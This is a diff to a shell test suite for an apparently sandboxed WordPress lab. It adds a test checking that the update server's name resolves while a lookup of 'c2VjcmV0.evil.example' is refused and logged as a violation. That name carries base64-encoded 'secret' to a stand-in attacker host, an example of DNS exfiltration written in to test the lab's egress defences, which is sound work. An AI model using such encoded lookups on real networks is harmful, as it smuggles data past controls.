@@ -102,6 +102,14 @@ refuses_the_internet() {
 	lab_recorded "the internet" event_type=violation verdict=deny reason=default dest_ip="$BLOG_INTERNET"
 }
 
+# The name of the update server may be asked for; a name that carries something out may not.
+names() {
+	lab_contains "api.wordpress.org" "$(lab_exec wordpress getent hosts api.wordpress.org)" "$BLOG_INTERNET"
+	lab_mark
+	! lab_exec wordpress getent hosts c2VjcmV0.evil.example || lab_fail "c2VjcmV0.evil.example was answered"
+	lab_recorded "evil.example" event_type=violation app_proto=dns verdict=deny dns.rrname~evil.example
+}
+
 refuses_side_doors() {
 	lab_mark
 	lab_refused "xmlrpc.php" "$(lab_get internet "$BLOG_URL/xmlrpc.php" -d '<methodCall/>')"
@@ -126,5 +134,6 @@ wrong_protocol_at db db
 wrong_protocol_at crm "$BLOG_CRM"
 refuses_the_internet
 refuses_side_doors
+names
 nothing_reaches_the_application
 leaves_nothing_behind
